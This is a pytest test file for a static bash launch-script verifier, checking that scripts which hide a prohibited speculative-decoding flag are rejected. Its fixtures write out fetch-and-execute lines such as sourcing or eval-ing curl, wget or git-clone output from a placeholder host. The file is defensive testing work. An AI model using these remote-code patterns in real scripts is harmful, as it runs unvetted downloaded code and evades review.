"""Hostile launch scripts that hide a prohibited server flag from the static bash reader, each with
its plainly written twin: both must be REJECTED.

The bundle is pr4524-approved moved to the old layout, its rows launched by a bash script
(tests/launch/test_legacy_script.py `_old_layout_bundle`). The prohibited flag is
`--speculative-draft-kv-cache-dtype fp8_e4m3` on a drafting point (check 13, draft precision).
The plain twin writes it into the server command; the hostile ones bring it in through what the
reader does not model (a process-substituted `source`, a file downloaded and sourced at run time,
`eval` of a command's output: the launch fails closed, unresolved, naming the file and line) or
through a construct it models (a `declare -n` name reference: the flag is seen and check 13 fails).
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.kit import judge, row, row_summary
from tests.launch.test_legacy_script import LEGACY_MINIMAX, _old_layout_bundle

SCRIPT = "benchmarks/single_node/agentic/minimaxm31flash_fp4_b300_sglang_mtp.sh"
FLAG = "--speculative-draft-kv-cache-dtype fp8_e4m3"
ANCHOR = "export SGLANG_TIMEOUT_KEEP_ALIVE=900\n"
USE = '    --mem-fraction-static "$MEM_FRACTION"\n'

PLAIN = LEGACY_MINIMAX.replace("--speculative-draft-model-path /model/dspark\n",
                               f"--speculative-draft-model-path /model/dspark\n        {FLAG}\n")


def _hidden(lines: str) -> str:
    """The script with `lines` before the server command, whose `$EXTRA` words reach the server."""
    assert ANCHOR in LEGACY_MINIMAX and USE in LEGACY_MINIMAX
    text = LEGACY_MINIMAX.replace(ANCHOR, lines + ANCHOR, 1)
    return text.replace(USE, USE + "    $EXTRA\n", 1)


HOSTILE = {
    # the flag is served by a URL and sourced through a process substitution
    "process-substituted-source": ("source <(curl -fsSL https://example.invalid/spec.sh)\n",
                                   "process substitution"),
    "dot-process-substituted": (". <(curl -fsSL https://example.invalid/spec.sh)\n", "process substitution"),
    # the flag is in a file the script downloads at run time and then sources
    "downloaded-and-sourced": ("curl -fsSL -o /tmp/spec.sh https://example.invalid/spec.sh\nsource /tmp/spec.sh\n",
                               "fetches at run time"),
    "wget-and-sourced": ("wget -q -O /tmp/spec.sh https://example.invalid/spec.sh\n. /tmp/spec.sh\n",
                         "fetches at run time"),
    # the flag is in text a command prints, evaluated
    "eval-of-command-output": ('eval "$(curl -fsSL https://example.invalid/spec.sh)"\n', "output of a command"),
}


def _verdict(report: Any) -> str:
    return str(getattr(report.verdict, "value", report.verdict))


def test_plain_twin_is_rejected_on_draft_precision(tmp_path: Path) -> None:
    report = judge(_old_layout_bundle(tmp_path, PLAIN))
    assert _verdict(report) == "REJECTED"
    r13 = row(report, 13)
    assert r13.status.value == "FAIL" and "minimaxm31flash_fp4_b300_sglang_mtp.sh" in row_summary(r13)


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_unmodelled_construct_fails_the_launch_closed(tmp_path: Path, name: str) -> None:
    lines, construct = HOSTILE[name]
    text = _hidden(lines)
    line = text.split("\n").index(lines.split("\n")[-2]) + 1  # the source / eval line
    report = judge(_old_layout_bundle(tmp_path, text))
    assert _verdict(report) == "REJECTED"
    r18 = row(report, 18)
    summary = row_summary(r18)
    assert r18.status.value == "FAIL", summary
    assert construct in summary and f"{SCRIPT.rsplit('/', 1)[-1]}:{line}" in summary, summary
    assert row(report, 13).status.value != "PASS", row_summary(row(report, 13))


def test_a_name_reference_is_followed_and_the_flag_is_seen(tmp_path: Path) -> None:
    lines = 'declare -n EXTRA_REF=SPEC\nEXTRA_REF+=(' + FLAG + ')\n'
    text = LEGACY_MINIMAX.replace(ANCHOR, lines + ANCHOR, 1)
    report = judge(_old_layout_bundle(tmp_path, text))
    assert _verdict(report) == "REJECTED"
    r13 = row(report, 13)
    assert r13.status.value == "FAIL", row_summary(r13)
    assert "fp8_e4m3" in row_summary(r13) or "kv-cache" in row_summary(r13), row_summary(r13)


def test_a_function_writing_through_a_local_name_reference(tmp_path: Path) -> None:
    lines = ('add_flags() { local -n target=$1; target+=(' + FLAG + '); }\n'
             'add_flags SPEC\n')
    report = judge(_old_layout_bundle(tmp_path, LEGACY_MINIMAX.replace(ANCHOR, lines + ANCHOR, 1)))
    assert _verdict(report) == "REJECTED"
    assert row(report, 13).status.value == "FAIL", row_summary(row(report, 13))


# ------------------------------------------------------------------ multi-node chains (verifier.shell.trace)

MN_SERVER = "benchmarks/multi_node/amd_utils/server.sh"
MN_SUBMIT = "benchmarks/multi_node/amd_utils/submit.sh"
MN_HIDDEN = {
    "process-substituted-source": ("source <(curl -fsSL https://example.invalid/flags.sh)\n", "process substitution"),
    "downloaded-and-sourced": ("curl -fsSL -o /tmp/flags.sh https://example.invalid/flags.sh\n. /tmp/flags.sh\n",
                               "fetches or writes at run time"),
    "eval-of-command-output": ('eval "$(curl -fsSL https://example.invalid/flags.sh)"\n', "evaluates the output"),
    # the same files as the single-node evaluator counts as fetched (verifier.shell.utilities.fetch_targets)
    "downloaded-with-output=": ("curl -fsSL --output=/tmp/flags.sh https://example.invalid/flags.sh\n. /tmp/flags.sh\n",
                                "fetches or writes at run time"),
    "copied-from-a-download": ("curl -fsSL -o /tmp/dl.sh https://example.invalid/flags.sh\ncp /tmp/dl.sh /tmp/flags.sh\n"
                               ". /tmp/flags.sh\n", "fetches or writes at run time"),
    "cloned-without-a-directory": ("git clone https://example.invalid/flags.git\n. flags/env.sh\n",
                                   "fetches or writes at run time"),
}


def _multinode(files: dict[str, bytes]) -> tuple[object, object]:
    from checks import judge as judge_bundle
    from checks import select
    from tests.launch.multinode_kit import AMD_KEY, make_bundle
    from verifier.core.context import CheckContext
    from verifier.core.policy import load_policies
    from verifier.launch import launches

    bundle = make_bundle(files)
    return launches(CheckContext(bundle, load_policies()), "head", [AMD_KEY]), \
        judge_bundle(make_bundle(files), load_policies(), select(only={18}))


@pytest.mark.parametrize("name", sorted(MN_HIDDEN))
@pytest.mark.parametrize("where", [MN_SERVER, MN_SUBMIT])
def test_multinode_unmodelled_construct_blocks_the_servers_after_it(name: str, where: str) -> None:
    from tests.launch.multinode_kit import amd_tree

    lines, construct = MN_HIDDEN[name]
    files = amd_tree()
    text = files[where].decode()
    head, rest = text.split("\n", 1)  # after the shebang: every server of the chain comes later
    files[where] = (head + "\n" + lines + rest).encode()
    ls, report = _multinode(files)
    assert not ls.launches, [x.argv for x in ls.launches]  # type: ignore[attr-defined]
    errors = [str(e) for e in ls.errors]  # type: ignore[attr-defined]
    assert errors and all(construct in e for e in errors), errors
    line = 1 + len(lines.split("\n")) - 1  # the source / eval line (after the shebang)
    assert all(e.startswith(f"{where}:{line}: ") for e in errors), errors
    assert row(report, 18).status.value == "FAIL", row_summary(row(report, 18))


def test_multinode_name_reference_is_followed() -> None:
    from tests.launch.multinode_kit import amd_tree

    files = amd_tree()
    text = files[MN_SERVER].decode()
    files[MN_SERVER] = text.replace('for env_pair in ${MODEL_ENVS}; do',
                                    'declare -n flags_ref=DECODE_FLAGS\nflags_ref+=" --max-num-seqs 7"\n'
                                    'for env_pair in ${MODEL_ENVS}; do', 1).encode()
    ls, _report = _multinode(files)
    decode = [x for x in ls.launches if x.role == "decode"]  # type: ignore[attr-defined]
    assert decode and decode[0].args.get("max-num-seqs") == "7", [str(e) for e in ls.errors]  # type: ignore[attr-defined]


def _decode_flags_set_by(loop: str) -> tuple[object, object]:
    from tests.launch.multinode_kit import amd_tree

    files = amd_tree()
    text = files[MN_SERVER].decode()
    files[MN_SERVER] = text.replace('for env_pair in ${MODEL_ENVS}; do', loop + '\nfor env_pair in ${MODEL_ENVS}; do',
                                    1).encode()
    return _multinode(files)


@pytest.mark.parametrize(("loop", "why"), [
    ('while [ -e /dev/shm/go ]; do DECODE_FLAGS+=" --max-num-seqs 7"; done',
     "is set under a condition only the run decides"),
    ('for ((n=0; n<$(nproc); n++)); do DECODE_FLAGS+=" --max-num-seqs 7"; done',
     "is assigned in a loop that is not read statically"),
], ids=["while", "arith-for"])
def test_multinode_flag_added_in_a_loop_it_does_not_run_blocks_the_server(loop: str, why: str) -> None:
    """The twin: a loop whose course the reader cannot decide is not run; a flag it adds must not vanish."""
    ls, report = _decode_flags_set_by(loop)
    assert not [x for x in ls.launches if x.role == "decode"]  # type: ignore[attr-defined]
    errors = [str(e) for e in ls.errors]  # type: ignore[attr-defined]
    assert any(why in e for e in errors), errors
    assert row(report, 18).status.value == "FAIL", row_summary(row(report, 18))


_LEADER = ('IFS=, read -r -a _IPS <<< "$(hostname -I | tr " " ,)"\n'
           'if [[ -n "${_IPS[1]:-}" ]]; then LEADER="${_IPS[1]}"; else LEADER=10.0.0.1; fi\n')


def test_multinode_address_the_run_picks_is_a_fact_of_the_node() -> None:
    """llm-d's server.sh takes a data-parallel leader's address from the job's node list when it holds
    that rank, else from elsewhere: the address is the run's (policy `multinode.machine-flags`)."""
    ls, _report = _decode_flags_set_by(_LEADER + 'DECODE_FLAGS+=" --data-parallel-address $LEADER"')
    decode = [x for x in ls.launches if x.role == "decode"]  # type: ignore[attr-defined]
    assert decode, [str(e) for e in ls.errors]  # type: ignore[attr-defined]
    assert decode[0].args.get("data-parallel-address") not in (None, "10.0.0.1"), decode[0].args


def test_multinode_setting_the_run_picks_blocks_the_server() -> None:
    """The twin: the same run-time choice as the value of a setting leaves the server unresolved."""
    ls, report = _decode_flags_set_by(_LEADER + 'DECODE_FLAGS+=" --max-num-seqs $LEADER"')
    assert not [x for x in ls.launches if x.role == "decode"]  # type: ignore[attr-defined]
    errors = [str(e) for e in ls.errors]  # type: ignore[attr-defined]
    assert any("is set under a condition only the run decides" in e for e in errors), errors
    assert row(report, 18).status.value == "FAIL", row_summary(row(report, 18))


@pytest.mark.parametrize("script", [
    # a `while` loop the reader follows
    'n=0\nwhile [ "$n" -lt 1 ]; do DECODE_FLAGS+=" --max-num-seqs 7"; n=$((n+1)); done',
    # `for ((...))` with `continue` and `break`
    'for ((n=0; n<3; n++)); do [ "$n" -eq 1 ] && continue; [ "$n" -eq 2 ] && break; '
    'DECODE_FLAGS+=" --max-num-seqs 7"; done',
    # `A[$i]=x` is an assignment (it was read as a command, and the flag it sets was dropped)
    'i=0\nEXTRA=()\nEXTRA[$i]=--max-num-seqs\nEXTRA[$((i + 1))]=7\nDECODE_FLAGS+=" ${EXTRA[*]}"',
    # a function's `local` copy of the name stays in the function (it leaked into the caller)
    'tune() { local DECODE_FLAGS="$DECODE_FLAGS --max-num-seqs 9"; }\ntune\nDECODE_FLAGS+=" --max-num-seqs 7"',
    # `SEQS=7 add` runs `add` with SEQS=7 (it ran with the old value); `tune | cat` runs `tune` in a
    # subshell, so what it assigns stays there (the reader kept it)
    'SEQS=3\nadd() { DECODE_FLAGS+=" --max-num-seqs $SEQS"; }\ntune() { DECODE_FLAGS+=" --max-num-seqs 9"; }\n'
    'SEQS=7 add\ntune | cat',
], ids=["while", "arith-for", "subscript", "local", "prefix-and-pipe"])
def test_multinode_flag_the_script_adds_is_the_one_bash_adds(script: str) -> None:
    ls, _report = _decode_flags_set_by(script)
    decode = [x for x in ls.launches if x.role == "decode"]  # type: ignore[attr-defined]
    assert decode and decode[0].args.get("max-num-seqs") == "7", [str(e) for e in ls.errors]  # type: ignore[attr-defined]
    assert "--max-num-seqs 9" not in " ".join(decode[0].argv)


def test_multinode_loops_past_the_step_budget_fail_closed() -> None:
    nested = ('a=0\nwhile [ $a -lt 300 ]; do b=0; while [ $b -lt 300 ]; do c=0; while [ $c -lt 300 ]; do '
              'c=$((c+1)); done; b=$((b+1)); done; a=$((a+1)); done')
    ls, report = _decode_flags_set_by(nested)
    assert not ls.launches, [x.argv for x in ls.launches]  # type: ignore[attr-defined]
    errors = [str(e) for e in ls.errors]  # type: ignore[attr-defined]
    assert errors and all("too long" in e for e in errors), errors
    assert row(report, 18).status.value == "FAIL", row_summary(row(report, 18))
